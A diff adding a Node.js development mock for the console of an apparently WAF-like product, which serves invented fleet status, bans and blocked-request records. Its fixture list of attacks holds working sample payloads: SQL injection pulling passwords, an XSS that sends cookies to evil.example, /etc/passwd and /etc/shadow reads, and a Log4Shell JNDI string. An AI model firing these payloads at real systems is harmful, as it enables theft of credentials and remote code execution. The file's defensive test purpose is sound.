@@ -1,0 +1,384 @@
+// A node for developing the console: the admin API and its stream with invented traffic, and `dist/` as a node would
+// serve it, under the same Content-Security-Policy. A development tool; nothing of it is in the product.
+//
+//   node dev/mock.mjs [--port 8901] [--scenario fleet|quiet|degraded|flood|observe] [--open]
+//
+// `--open` asks for no session. Otherwise the printed link signs in, as often as wanted.
+
+import { createServer } from 'node:http';
+import { readFile } from 'node:fs/promises';
+import { extname, join, normalize } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { argv } from 'node:process';
+
+const DIST = join(fileURLToPath(new URL('..', import.meta.url)), 'dist');
+const ALPHABET = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';
+const CSP =
+  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'self'; " +
+  "frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types svelte-trusted-html";
+const TYPES = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };
+
+const NODES = [
+  { site: 'fra', node: 'fra-1', me: true },
+  { site: 'iad', node: 'iad-1', me: false },
+  { site: 'syd', node: 'syd-1', me: false },
+];
+const RULES = {
+  942100: { message: 'SQL Injection Attack Detected via libinjection', file: 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', line: 45, t: ['utf8toUnicode', 'urlDecodeUni', 'removeNulls'], tag: 'attack-sqli' },
+  942190: { message: 'Detects MSSQL code execution and information gathering attempts', file: 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', line: 178, t: ['urlDecodeUni', 'removeCommentsChar'], tag: 'attack-sqli' },
+  941100: { message: 'XSS Attack Detected via libinjection', file: 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', line: 62, t: ['utf8toUnicode', 'urlDecodeUni', 'htmlEntityDecode', 'jsDecode'], tag: 'attack-xss' },
+  941110: { message: 'XSS Filter - Category 1: Script Tag Vector', file: 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', line: 93, t: ['utf8toUnicode', 'urlDecodeUni', 'htmlEntityDecode'], tag: 'attack-xss' },
+  930120: { message: 'OS File Access Attempt', file: 'REQUEST-930-APPLICATION-ATTACK-LFI.conf', line: 101, t: ['utf8toUnicode', 'urlDecodeUni', 'normalizePathWin'], tag: 'attack-lfi' },
+  932160: { message: 'Remote Command Execution: Unix Shell Code Found', file: 'REQUEST-932-APPLICATION-ATTACK-RCE.conf', line: 522, t: ['cmdLine', 'normalizePath'], tag: 'attack-rce' },
+  944150: { message: 'Potential Remote Command Execution: Log4j / Log4shell', file: 'REQUEST-944-APPLICATION-ATTACK-JAVA.conf', line: 290, t: ['urlDecodeUni', 'jsDecode', 'htmlEntityDecode'], tag: 'attack-rce' },
+};
+const ATTACKS = [
+  { method: 'GET', target: "/products?id=1%27%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--", rules: [942100, 942190], variable: 'ARGS:id', fragment: "1' UNION SELECT name,password FROM users--" },
+  { method: 'GET', target: '/search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E', rules: [941100, 941110], variable: 'ARGS:q', fragment: "<script>fetch('//evil.example/'+document.cookie)</script>" },
+  { method: 'GET', target: '/static/..%2f..%2f..%2fetc/passwd', rules: [930120], variable: 'REQUEST_FILENAME', fragment: 'etc/passwd' },
+  { method: 'POST', target: '/reviews', rules: [941110], variable: 'ARGS:text', fragment: '<script src=//x.example/a.js></script>' },
+  { method: 'POST', target: '/cart/update', rules: [932160], variable: 'ARGS:note', fragment: ';cat /etc/shadow' },
+  { method: 'GET', target: '/', rules: [944150], variable: 'REQUEST_HEADERS:User-Agent', fragment: '${jndi:ldap://203.0.113.66/a}' },
+  { method: 'GET', target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E', rules: [941100], variable: 'ARGS:q', fragment: '<img src=x onerror=window.hacked=1>' },
+];
+const ATTACKERS = ['203.0.113.9', '203.0.113.66', '198.51.100.23', '198.51.100.140', '192.0.2.77', '2001:db8:51:4::a1'];
+const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 'sqlmap/1.9.4#stable (https://sqlmap.org)', 'curl/8.14.1', 'python-requests/2.32.4'];
+
+/** Starts the mock and resolves to its addresses and a way to end it. */
+export async function startMock({ port = 0, scenario = 'fleet', open = false, seed = 7 } = {}) {
+  const world = new World(scenario, seed);
+  const session = 'mock-session-00000000';
+  const server = createServer((request, reply) => {
+    route(world, { session, open }, request, reply).catch((error) => {
+      if (!reply.headersSent) json(reply, 500, { error: { code: 'mock', message: String(error) } });
+    });
+  });
+  await new Promise((resolve) => server.listen(port, '127.0.0.1', resolve));
+  const base = `http://127.0.0.1:${server.address().port}`;
+  world.start();
+  return {
+    base,
+    login: `${base}/login?ticket=mock`,
+    protected: `${base}/_mock/shop`,
+    world,
+    stop: () => {
+      world.stop();
+      server.closeAllConnections();
+      return new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/** What the invented node knows. */
+class World {
+  constructor(scenario, seed) {
+    this.scenario = scenario;
+    this.random = mulberry32(seed);
+    this.startedAt = Date.now() - 9_312_000;
+    this.listeners = new Set();
+    this.records = new Map();
+    this.decisions = new Map();
+    this.strikes = new Map();
+    this.counters = { requests: 1_204_311, denied: 3_127, observed: 0, malformed: 12, upstream_errors: 0 };
+    this.version = 1;
+    this.load = 40;
+    if (scenario !== 'quiet') this.past();
+  }
+
+  /** History from before the page was opened. */
+  past() {
+    const now = Date.now();
+    for (let i = 45; i > 0; i--) this.attack({ at: now - i * 21_000 - this.random() * 9_000, silent: true });
+    this.decide({ ip: '203.0.113.9', forMs: 20 * 60_000, at: now - 512_000, node: NODES[1], reason: '3 attacks in 60 s: SQL injection, cross-site scripting', silent: true, evidence: [...this.records.keys()][12] });
+    this.decide({ prefix: '198.51.100.0/24', forMs: 86_400_000, at: now - 7_000_000, node: NODES[0], role: 'operator', reason: 'scanner farm, ticket 4411', silent: true });
+    this.decide({ ip: '192.0.2.200', kind: 'allow', forMs: 7 * 86_400_000, at: now - 86_000_000, node: NODES[0], role: 'operator', reason: 'our uptime monitor', silent: true });
+  }
+
+  start() {
+    const every = (ms, work) => this.timers.push(setInterval(work, ms));
+    this.timers = [];
+    if (this.scenario !== 'quiet') {
+      const pause = this.scenario === 'flood' ? 20 : 900;
+      const next = () => {
+        this.attack({});
+        this.timer = setTimeout(next, pause * (0.3 + this.random() * 2));
+      };
+      this.timer = setTimeout(next, pause);
+      every(200, () => {
+        this.load = Math.max(8, Math.min(90, this.load + (this.random() - 0.5) * 9));
+        this.counters.requests += Math.round((this.load / 5) * (0.7 + this.random() * 0.6));
+      });
+    }
+    every(1000, () => this.say('counters', this.counters));
+    every(2000, () => this.say('nodes', this.members()));
+  }
+
+  stop() {
+    clearTimeout(this.timer);
+    for (const timer of this.timers) clearInterval(timer);
+    for (const reply of this.listeners) reply.end();
+  }
+
+  say(name, data) {
+    for (const reply of this.listeners) reply.write(`event: ${name}\ndata: ${JSON.stringify(data)}\n\n`);
+  }
+
+  live() {
+    const now = Date.now();
+    for (const [id, d] of this.decisions) if (d.expires_at_ms <= now) this.decisions.delete(id);
+    return [...this.decisions.values()];
+  }
+
+  members() {
+    const now = Date.now();
+    const list = this.scenario === 'quiet' ? NODES.slice(0, 1) : NODES;
+    return list.map((n, i) => {
+      const silent = this.scenario === 'degraded' && n.node === 'syd-1';
+      return {
+        ...n,
+        version: '0.1.0',
+        lag_ms: n.me ? 0 : [0, 44, 138][i] + Math.floor(this.random() * 9),
+        last_seen_ms: silent ? this.startedAt + 9_200_000 : now - Math.floor(this.random() * 900),
+        decisions: this.live().length,
+        online: !silent,
+      };
+    });
+  }
+
+  status() {
+    const alone = this.scenario === 'quiet';
+    return {
+      node: 'fra-1',
+      site: 'fra',
+      version: '0.1.0',
+      started_at_ms: this.startedAt,
+      now_ms: Date.now(),
+      plan: {
+        version: 4,
+        apps: [{ name: 'shop', upstream: 'http://127.0.0.1:3000', mode: this.scenario === 'observe' ? 'observe' : 'block', rules: 'baseline', paranoia: 1, rule_count: 58 }],
+      },
+      fleet: {
+        kind: alone ? 'local' : 'nats',
+        connected: true,
+        degraded: this.scenario === 'degraded' ? ['Decisions from syd arrive late: its link to the fleet is down. It enforces what it knows.'] : [],
+        members: this.members(),
+      },
+      counters: this.counters,
+      decisions_live: this.live().length,
+    };
+  }
+
+  /** One attack; a client's third within the window becomes a ban. */
+  attack({ at = Date.now(), silent = false, attack, client, target, agent }) {
+    const kind = attack ?? this.pick(ATTACKS);
+    const from = client ?? this.pick(ATTACKERS);
+    const node = this.pick(this.scenario === 'quiet' ? NODES.slice(0, 1) : NODES);
+    const standing = this.live().find((d) => d.actor.value === actorValue(from) && d.kind === 'ban');
+    const malformed = !attack && this.random() < 0.06;
+    const id = requestId(at, node, this.random);
+    const observe = this.scenario === 'observe';
+    const rules = standing || malformed ? [] : kind.rules;
+    const reason = standing
+      ? { kind: 'decision', decision: standing }
+      : malformed
+        ? { kind: 'framing', fault: 'length_and_transfer_encoding' }
+        : { kind: 'rule', rule: rules.length > 1 ? 949110 : rules[0] };
+    const action = observe && !malformed ? 'observe' : 'deny';
+    const status = malformed ? 400 : observe ? 200 : 403;
+    const signals = rules.map((rule) => signal(rule, kind));
+    const score = signals.length * 5;
+    const access = {
+      id, at_ms: Math.round(at), app: 'shop', client: from, peer: '127.0.0.1', method: kind.method, host: 'shop.example', target: target ?? kind.target,
+      protocol: 'HTTP/1.1', user_agent: agent ?? this.pick(AGENTS), referer: '', status, request_bytes: kind.method === 'POST' ? 214 : 0, response_bytes: 318,
+      duration_us: 90 + Math.floor(this.random() * 400), upstream_us: 0, verdict: { action, reason, status, score }, plan_version: 4, view_revision: this.version,
+    };
+    const top = signals[0] && {
+      rule: rules[0], message: signals[0].message, variable: kind.variable, fragment: kind.fragment, file: signals[0].rule.file, line: signals[0].rule.line,
+    };
+    const row = { id, at_ms: access.at_ms, client: from, method: access.method, host: access.host, target: access.target, status, action, reason, rule_ids: rules, top: top ?? null, score, site: node.site, node: node.node };
+    const full = { access, signals, faults: malformed ? ['length_and_transfer_encoding'] : [], strikes: [], decision: standing ?? null, led_to: [], proposals: [], plan_version: 4, site: node.site, node: node.node, summary: [`${kind.method} shop.example${access.target} from ${from} was refused with status ${status} by node ${node.site}/${node.node}, app shop.`, ...signals.map((s) => `Rule ${s.rule.id} "${s.message}" matched ${kind.variable}: \`${kind.fragment}\`; score +5.`)] };
+    this.records.set(id, { row, full });
+    if (this.records.size > 2_000) this.records.delete(this.records.keys().next().value);
+    this.counters.requests += 1;
+    if (action === 'deny') this.counters.denied += 1;
+    if (!silent) this.say('request', row);
+    if (signals.length > 0 && action === 'deny') this.strike(from, id, at, node, full, silent);
+    return id;
+  }
+
+  strike(client, id, at, node, full, silent) {
+    const recent = (this.strikes.get(client) ?? []).filter((t) => at - t < 60_000);
+    recent.push(at);
+    this.strikes.set(client, recent);
+    const actor = { kind: 'ip', value: actorValue(client) };
+    full.strikes.push({ request: id, at_ms: Math.round(at), actor, count: recent.length });
+    if (recent.length < 3 || silent) return;
+    this.strikes.delete(client);
+    const reason = `3 attacks in 60 s, the last: ${full.signals[0].message}`;
+    full.led_to.push(this.decide({ ip: client, forMs: this.scenario === 'flood' ? 8_000 : 90_000, at, node, reason, evidence: id }));
+  }
+
+  decide({ ip, prefix, kind = 'ban', forMs, at = Date.now(), node, role = 'node', reason, evidence = null, silent = false }) {
+    const decision = {
+      id: requestId(at, node, this.random), actor: ip ? { kind: 'ip', value: actorValue(ip) } : { kind: 'prefix', value: prefix }, kind,
+      author: { site: node.site, node: node.node, role }, reason, evidence, confidence_percent: 99,
+      created_at_ms: Math.round(at), expires_at_ms: Math.round(at + forMs), version: ++this.version,
+    };
+    this.decisions.set(decision.id, decision);
+    if (!silent) this.say('decision', decision);
+    return decision;
+  }
+
+  withdraw(id, reason) {
+    const decision = this.decisions.get(id);
+    if (!decision) return null;
+    this.decisions.delete(id);
+    const order = { id: requestId(Date.now(), NODES[0], this.random), actor: decision.actor, author: { site: 'fra', node: 'fra-1', role: 'operator' }, up_to_version: decision.version, reason, created_at_ms: Date.now(), expires_at_ms: decision.expires_at_ms };
+    this.say('withdrawal', order);
+    return order;
+  }
+
+  pick(list) {
+    return list[Math.floor(this.random() * list.length)];
+  }
+}
+
+function signal(id, attack) {
+  const rule = RULES[id];
+  return {
+    rule: { id, file: `rules/${rule.file}`, line: rule.line, class: { class: 'detection', confidence: 'high' }, severity: 'critical', tags: ['OWASP_CRS', rule.tag, 'paranoia-level/1'] },
+    phase: 2, message: rule.message, data: `Matched Data found within ${attack.variable}`,
+    matches: [{ variable: attack.variable, fragment: attack.fragment, value_hash: 7, transformations: rule.t }], score: 5,
+  };
+}
+
+async function route(world, access, request, reply) {
+  const url = new URL(request.url, 'http://mock');
+  const path = url.pathname;
+  if (path.startsWith('/_mock/shop')) return shop(world, url, request, reply);
+  if (path === '/login') {
+    reply.writeHead(303, { location: '/', 'set-cookie': `phalanx_session=${access.session}; HttpOnly; SameSite=Strict; Path=/` });
+    return reply.end();
+  }
+  if (!path.startsWith('/api/')) return asset(path, reply);
+  if (!access.open && !(request.headers.cookie ?? '').includes(`phalanx_session=${access.session}`)) {
+    return json(reply, 401, { error: { code: 'unauthorized', message: 'sign in first' } });
+  }
+  return api(world, url, request, reply);
+}
+
+async function api(world, url, request, reply) {
+  const [, , , area, id] = url.pathname.split('/');
+  const call = `${request.method} ${area}${id ? '/:id' : ''}`;
+  switch (call) {
+    case 'GET status':
+      return json(reply, 200, world.status());
+    case 'GET nodes':
+      return json(reply, 200, world.members());
+    case 'GET decisions':
+      return json(reply, 200, world.live());
+    case 'POST decisions': {
+      const body = JSON.parse(await text(request));
+      if ((body.ip ?? '').startsWith('127.')) return json(reply, 422, { error: { code: 'operator_network', message: '127.0.0.1 is in an operator network and is never barred' } });
+      return json(reply, 201, world.decide({ ...body, forMs: body.for_ms, node: NODES[0], role: 'operator' }));
+    }
+    case 'DELETE decisions/:id': {
+      if (world.refuseUndo) return json(reply, 503, { error: { code: 'ledger_full', message: 'the ledger cannot be written: no space left on device' } });
+      const order = world.withdraw(id, url.searchParams.get('reason') ?? '');
+      return order ? json(reply, 200, order) : json(reply, 404, { error: { code: 'not_found', message: 'no such decision' } });
+    }
+    case 'GET events':
+      return json(reply, 200, events(world, url.searchParams));
+    case 'GET events/:id': {
+      const record = world.records.get(id);
+      return record ? json(reply, 200, record.full) : json(reply, 404, { error: { code: 'not_found', message: 'no record of this request' } });
+    }
+    case 'POST logout':
+      reply.writeHead(204, { 'set-cookie': 'phalanx_session=; Max-Age=0; Path=/' });
+      return reply.end();
+    case 'GET stream':
+      reply.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
+      reply.write('retry: 1000\n\n');
+      world.listeners.add(reply);
+      request.on('close', () => world.listeners.delete(reply));
+      return undefined;
+    default:
+      return json(reply, 404, { error: { code: 'not_found', message: 'no such call' } });
+  }
+}
+
+function events(world, query) {
+  const limit = Number(query.get('limit') ?? 50);
+  const wants = (row) =>
+    (!query.get('client') || row.client === query.get('client')) &&
+    (!query.get('action') || row.action === query.get('action')) &&
+    (!query.get('rule') || row.rule_ids.map(String).includes(query.get('rule'))) &&
+    (!query.get('before') || row.id < query.get('before'));
+  return [...world.records.values()].map((record) => record.row).filter(wants).sort((a, b) => b.at_ms - a.at_ms).slice(0, limit);
+}
+
+/** The "protected app": whatever is sent here is an attack, refused and recorded with the target as it came. */
+function shop(world, url, request, reply) {
+  const target = request.url.slice('/_mock/shop'.length);
+  const fragment = [...url.searchParams.values()][0] ?? decodeURIComponent(url.pathname);
+  const attack = { method: request.method, target, rules: [941110], variable: `ARGS:${[...url.searchParams.keys()][0] ?? 'q'}`, fragment };
+  const id = world.attack({ attack, client: '127.0.0.1', target, agent: request.headers['user-agent'] ?? '' });
+  reply.writeHead(403, { 'content-type': 'text/plain', 'x-request-id': id });
+  reply.end(`Refused. Request id ${id}\n`);
+}
+
+async function asset(path, reply) {
+  const name = path === '/' ? '/index.html' : normalize(path);
+  try {
+    const body = await readFile(join(DIST, name));
+    reply.writeHead(200, {
+      'content-type': TYPES[extname(name)] ?? 'application/octet-stream', 'content-security-policy': CSP,
+      'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer', 'cross-origin-opener-policy': 'same-origin',
+    });
+    reply.end(body);
+  } catch {
+    reply.writeHead(404, { 'content-type': 'text/plain' });
+    reply.end(path === '/' ? 'Build the console first: npm run build\n' : 'not found\n');
+  }
+}
+
+function json(reply, status, body) {
+  reply.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store' });
+  reply.end(JSON.stringify(body));
+}
+
+async function text(request) {
+  let body = '';
+  for await (const chunk of request) body += chunk;
+  return body;
+}
+
+const actorValue = (ip) => (ip.includes(':') ? `${ip.split(':').slice(0, 4).join(':')}::` : ip);
+
+/** An id of the product's form: ten characters of time, sixteen of node and chance. */
+function requestId(at, node, random) {
+  let time = Math.round(at);
+  let head = '';
+  for (let i = 0; i < 10; i++) {
+    head = ALPHABET[time % 32] + head;
+    time = Math.floor(time / 32);
+  }
+  const tag = ALPHABET[node.site.charCodeAt(0) % 32] + ALPHABET[node.site.charCodeAt(1) % 32];
+  return head + tag + Array.from({ length: 14 }, () => ALPHABET[Math.floor(random() * 32)]).join('');
+}
+
+function mulberry32(seed) {
+  let state = seed;
+  return () => {
+    state = (state + 0x6d2b79f5) | 0;
+    let t = Math.imul(state ^ (state >>> 15), 1 | state);
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+if (argv[1] === fileURLToPath(import.meta.url)) {
+  const option = (name) => (argv.includes(name) ? argv[argv.indexOf(name) + 1] : undefined);
+  const mock = await startMock({ port: Number(option('--port') ?? 8901), scenario: option('--scenario') ?? 'fleet', open: argv.includes('--open') });
+  console.log(`console  ${mock.login}\nprotected  ${mock.protected}/?q=%3Cscript%3E`);
+}
